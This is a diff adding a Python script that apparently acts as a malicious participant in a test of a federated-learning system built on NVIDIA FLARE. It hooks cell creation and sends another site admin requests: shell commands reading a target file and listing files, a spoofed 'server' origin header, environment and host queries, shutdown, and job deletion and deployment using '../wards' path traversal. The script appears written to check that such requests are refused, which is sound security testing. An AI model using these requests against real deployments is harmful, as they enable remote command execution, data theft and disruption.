@@ -1,0 +1,74 @@
+"""A participant with a true kit and bad intentions: takes part, and asks another site for what is not its to ask.
+
+Arguments: its kit, its state folder, what it is told (JSON), a file to write what it was answered to (JSON), a file at
+the other site that it would like to read.
+"""
+
+import json
+import sys
+import threading
+import time
+from pathlib import Path
+from typing import Any
+
+from nvflare.fuel.f3.cellnet.cell import Cell
+from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
+from nvflare.fuel.f3.cellnet.utils import new_cell_message
+from nvflare.private.admin_defs import Message
+
+from fedmutual.engines.sites.flare import run
+from fedmutual.engines.sites.flare.kits import opened
+
+VICTIM = "north"
+CELLS: list[Cell] = []
+
+
+def spied(self: Cell, *given: Any, **named: Any) -> None:
+    made(self, *given, **named)
+    CELLS.append(self)
+
+
+def order(topic: str, body: str = "", job: str | None = None) -> Message:
+    found = Message(topic=topic, body=body)
+    if job is not None:
+        found.set_header("job_id", job)
+    return found
+
+
+def asked(channel: str, topic: str, body: Any, **headers: str) -> str:
+    """What comes of a request: the return code, and what it brought."""
+    try:
+        request = new_cell_message(dict(headers), body)
+        reply = CELLS[0].send_request(channel=channel, target=VICTIM, topic=topic, request=request, timeout=3.0)
+        code = reply.get_header(MessageHeaderKey.RETURN_CODE)
+        return f"{code}: {reply.get_header(MessageHeaderKey.ERROR, '')} {getattr(reply.payload, 'body', reply.payload)}"
+    except Exception as problem:
+        return repr(problem)
+
+
+def steal(out: Path, secret: str) -> None:
+    """Once it is told that all are there, whatever comes to mind."""
+    while not out.with_suffix(".go").exists():
+        time.sleep(0.1)
+    admin, spoofed = CellChannel.CLIENT_MAIN, {MessageHeaderKey.ORIGIN: "server"}
+    found = {
+        "read": asked(admin, "admin", order("sys.shell", f"cat {secret}")),
+        "list": asked(admin, "admin", order("sys.shell", "ls -a")),
+        "as the server": asked(admin, "admin", order("sys.shell", f"cat {secret}"), **spoofed),
+        "host": asked(admin, "admin", order("sys.info")),
+        "paths": asked(admin, "admin", order("sys.report_env")),
+        "errors": asked(admin, "admin", order("info.show_errors")),
+        "end": asked(admin, "admin", order("train.shutdown")),
+        "delete": asked(admin, "admin", order("train.delete_run", job="../wards")),
+        "deploy": asked(admin, "admin", order("train.deploy", job="../wards")),
+        "stop": asked("_net_manager", "stop", None),
+    }
+    out.with_suffix(".part").write_text(json.dumps(found))
+    out.with_suffix(".part").rename(out)
+
+
+if __name__ == "__main__":
+    kit, state, told, answers, wanted = sys.argv[1:6]
+    made, Cell.__init__ = Cell.__init__, spied
+    threading.Thread(target=steal, args=(Path(answers), wanted), daemon=True).start()
+    sys.exit(run.serve(opened(Path(kit)), Path(state), json.loads(told)))
